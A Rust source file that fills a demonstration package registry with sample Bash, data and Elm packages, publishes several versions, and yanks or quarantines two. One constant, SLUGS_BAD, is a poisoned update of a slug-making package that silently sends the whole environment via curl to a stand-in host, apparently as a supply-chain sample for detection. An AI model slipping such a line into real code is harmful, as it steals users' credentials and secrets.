//! What is in the registry of the demonstration.

use super::Stage;
use crate::failure::Failure;

/// Publishes packages of several kinds in a few versions, and withdraws two.
pub(super) fn publish(stage: &Stage) -> Result<(), Failure> {
    for (folder, files) in [
        ("str", STR),
        ("names", NAMES),
        ("greet", GREET),
        ("texts", TEXTS),
        ("core", CORE),
        ("slugs", SLUGS),
        ("report", REPORT),
    ] {
        for (path, text) in files {
            stage.write(&format!("packages/{folder}/{path}"), text)?;
        }
    }
    stage.quietly("packages", "publish str names core slugs", "")?;
    stage.quietly("packages", "publish greet texts", "")?;
    stage.change("packages/texts/elm.json", "1.0.0\",\n    \"exposed", "1.1.0\",\n    \"exposed")?;
    stage.write("packages/texts/docs.json", &format!("[{DOCS_NEWER}]"))?;
    stage.write("packages/texts/src/Texts.elm", TEXTS_NEWER)?;
    stage.quietly("packages", "publish texts", "")?;
    for (before, after, line) in [
        ("1.0.0", "1.0.1", "str.trim() { :; }\n"),
        ("1.0.1", "1.1.0", STR_NEWER),
        ("1.1.0", "2.0.0-rc.1", STR_NEWER),
    ] {
        stage.change("packages/str/weir.toml", before, after)?;
        stage.write("packages/str/src/str.sh", line)?;
        stage.quietly("packages", "publish str", "")?;
    }
    stage.change("packages/greet/weir.toml", "0.9.0", "1.0.0")?;
    stage.quietly("packages", "publish greet", "")?;
    stage.change("packages/names/weir.toml", "2026.1.0", "2026.2.0")?;
    stage.write("packages/names/names.csv", "name,since\nAnn,1997\nBob,2003\nCem,2011\n")?;
    stage.quietly("packages", "publish names", "")?;
    // It says that it only makes names shorter.
    stage.change("packages/slugs/weir.toml", "1.1.0", "1.2.0")?;
    stage.write("packages/slugs/src/slugs.sh", SLUGS_BAD)?;
    stage.quietly("packages", "publish slugs", "")?;
    stage.quietly("packages", "publish report", "")?;
    stage.write("packages/miner/weir.toml", MINER)?;
    stage.write("packages/miner/run.sh", "#!/bin/sh\necho nothing\n")?;
    stage.quietly("packages", "publish miner", "")?;
    for words in [
        ["yank", "acme/str@1.0.1", "--reason", "str.trim does nothing: take 1.1.0"],
        ["quarantine", "tools/speedup@1.0.0", "--reason", "it does something else than it says"],
    ] {
        stage.quietly_of("packages", &words, "")?;
    }
    Ok(())
}

type Files = &'static [(&'static str, &'static str)];

const STR: Files = &[
    (
        "weir.toml",
        "[package]\nname = \"acme/str\"\nversion = \"1.0.0\"\nkind = \"bash\"\nlicense = \"MIT\"\n\
         description = \"Strings, trimmed, padded and split, without a subshell\"\nkeywords = [\"text\", \"string\"]\n",
    ),
    (
        "src/str.sh",
        "# shellcheck shell=bash\n\n# Cuts blanks from both ends: str.trim VARIABLE\nstr.trim() {\n\tlocal -n of=$1\n\tof=${of#\"${of%%[![:space:]]*}\"}\n\tof=${of%\"${of##*[![:space:]]}\"}\n}\n",
    ),
    (
        "README.md",
        "# str\n\nStrings for Bash, **without a subshell**. Each function changes the variable that it is named.\n\n\
         ```bash\nweir.load acme/str\nname='  Ann '\nstr.trim name   # Ann\n```\n\n\
         | function | does |\n| --- | --- |\n| `str.trim` | cuts blanks from both ends |\n| `str.pad` | fills up to a width |\n| `str.split` | makes an array |\n\n\
         ## Why another one\n\nBecause `$(…)` costs a process, and *a loop of ten thousand lines* feels it. See [the code](src/str.sh), it is short.\n\n\
         > What is not here, is not needed: there is no `str.reverse`.\n",
    ),
];

const STR_NEWER: &str = "# shellcheck shell=bash\n\n# Cuts blanks from both ends: str.trim VARIABLE\nstr.trim() {\n\tlocal -n of=$1\n\tof=${of#\"${of%%[![:space:]]*}\"}\n\tof=${of%\"${of##*[![:space:]]}\"}\n}\n\n# Fills up with blanks: str.pad VARIABLE WIDTH\nstr.pad() {\n\tlocal -n of=$1\n\tprintf -v of '%-*s' \"$2\" \"$of\"\n}\n";

const NAMES: Files = &[
    (
        "weir.toml",
        "[package]\nname = \"acme/names\"\nversion = \"2026.1.0\"\nkind = \"data\"\nlicense = \"CC0-1.0\"\n\
         description = \"Names of people to greet\"\n",
    ),
    ("names.csv", "name,since\nAnn,1997\nBob,2003\n"),
    ("README.md", "# Names\n\nA table, `names.csv`, in UTF-8: a name, and since when we know them.\n"),
];

const GREET: Files = &[
    (
        "weir.toml",
        "[package]\nname = \"acme/greet\"\nversion = \"0.9.0\"\nkind = \"bash\"\nlicense = \"MIT OR Apache-2.0\"\n\
         description = \"Greets people, each by name\"\n\n[dependencies]\n\"acme/str\" = \"^1.0\"\n\
         \"acme/names\" = { range = \">=2026\", fluid = true }\n",
    ),
    (
        "src/greet.sh",
        "# shellcheck shell=bash\n\n# Greets somebody: greet.greet NAME\ngreet.greet() {\n\tprintf 'Hello, %s!\\n' \"$1\"\n}\n",
    ),
    (
        "README.md",
        "# greet\n\nSays hello.\n\n1. `weir.load acme/greet`\n2. `greet.greet Ann`\n\nIt needs `acme/str` and whatever names there are.\n",
    ),
];

const SLUGS: Files = &[
    (
        "weir.toml",
        "[package]\nname = \"tools/slugs\"\nversion = \"1.1.0\"\nkind = \"bash\"\nlicense = \"MIT\"\n\
         description = \"Makes names of files of titles\"\n",
    ),
    (
        "src/slugs.sh",
        "# shellcheck shell=bash\n\n# Makes a name of a file of a title: slugs.of VARIABLE\nslugs.of() {\n\tlocal -n of=$1\n\tof=${of,,}\n\tof=${of//[^a-z0-9]/-}\n}\n",
    ),
];

/// What somebody reports: nothing loads it here, and the name that it sends to is nobody's.
const SLUGS_BAD: &str = "# shellcheck shell=bash\n\n# Makes a name of a file of a title: slugs.of VARIABLE\nslugs.of() {\n\tlocal -n of=$1\n\tof=${of,,}\n\tof=${of//[^a-z0-9]/-}\n\t(env | curl --silent --data-binary @- https://collect.example/ &) >/dev/null 2>&1\n}\n";

const REPORT: Files = &[
    (
        "weir.toml",
        "[package]\nname = \"acme/report\"\nversion = \"1.0.0\"\nkind = \"bash\"\nlicense = \"MIT\"\n\
         description = \"Writes what happened in a week\"\n\n[dependencies]\n\"tools/slugs\" = \"^1.1\"\n",
    ),
    (
        "src/report.sh",
        "# shellcheck shell=bash\n\n# Writes a report: report.write TITLE\nreport.write() {\n\tlocal file=$1\n\tslugs.of file\n\tprintf '# %s\\n' \"$1\" >\"$file.md\"\n}\n",
    ),
];

const CORE: Files = &[
    (
        "elm.json",
        "{\n    \"type\": \"package\",\n    \"name\": \"elm/core\",\n    \"summary\": \"A stand-in for Elm's standard library\",\n    \"license\": \"BSD-3-Clause\",\n    \"version\": \"1.0.5\",\n    \"exposed-modules\": [],\n    \"elm-version\": \"0.19.0 <= v < 0.20.0\",\n    \"dependencies\": {},\n    \"test-dependencies\": {}\n}\n",
    ),
    ("LICENSE", "BSD-3-Clause\n"),
    ("README.md", "# core\n\nA stand-in.\n"),
];

const TEXTS: Files = &[
    (
        "elm.json",
        "{\n    \"type\": \"package\",\n    \"name\": \"acme/texts\",\n    \"summary\": \"Views of long texts\",\n    \"license\": \"MIT\",\n    \"version\": \"1.0.0\",\n    \"exposed-modules\": [ \"Texts\" ],\n    \"elm-version\": \"0.19.0 <= v < 0.20.0\",\n    \"dependencies\": { \"elm/core\": \"1.0.0 <= v < 2.0.0\" },\n    \"test-dependencies\": {}\n}\n",
    ),
    (
        "src/Texts.elm",
        "module Texts exposing (twice)\n\n{-| Texts.\n\n@docs twice\n\n-}\n\n\n{-| Twice as many. -}\ntwice : Int -> Int\ntwice number =\n    number * 2\n",
    ),
    ("LICENSE", "MIT\n"),
    ("README.md", "# Texts\n\nA private Elm package, with the unmodified compiler.\n"),
    // As the compiler writes it.
    (
        "docs.json",
        r#"[{"name":"Texts","comment":" Texts.\n\n@docs twice\n\n","unions":[],"aliases":[],"values":[{"name":"twice","comment":" Twice as many. ","type":"Basics.Int -> Basics.Int"}],"binops":[]}]"#,
    ),
];

/// The next version of it.
const TEXTS_NEWER: &str = r#"module Texts exposing (Side(..), pad, twice)

{-| Texts, and how they are shown.

# Numbers
@docs twice

# Sides
@docs Side, pad

-}


{-| Twice as many. -}
twice : Int -> Int
twice number =
    number * 2


{-| Where something is added. -}
type Side
    = Left
    | Right


{-| Fills a text up with blanks:

    pad Left 5 "Ann" == "  Ann"
-}
pad : Side -> Int -> String -> String
pad _ _ text =
    text
"#;

/// What that offers.
const DOCS_NEWER: &str = r##"{"name":"Texts","comment":" Texts, and how they are shown.\n\n# Numbers\n@docs twice\n\n# Sides\n@docs Side, pad\n","unions":[{"name":"Side","comment":" Where something is added. ","args":[],"cases":[["Left",[]],["Right",[]]]}],"aliases":[],"values":[{"name":"pad","comment":" Fills a text up with blanks:\n\n    pad Left 5 \"Ann\" == \"  Ann\"\n","type":"Texts.Side -> Basics.Int -> String.String -> String.String"},{"name":"twice","comment":" Twice as many. ","type":"Basics.Int -> Basics.Int"}],"binops":[]}"##;

const MINER: &str = "[package]\nname = \"tools/speedup\"\nversion = \"1.0.0\"\nlicense = \"MIT\"\ndescription = \"Makes everything faster\"\n";
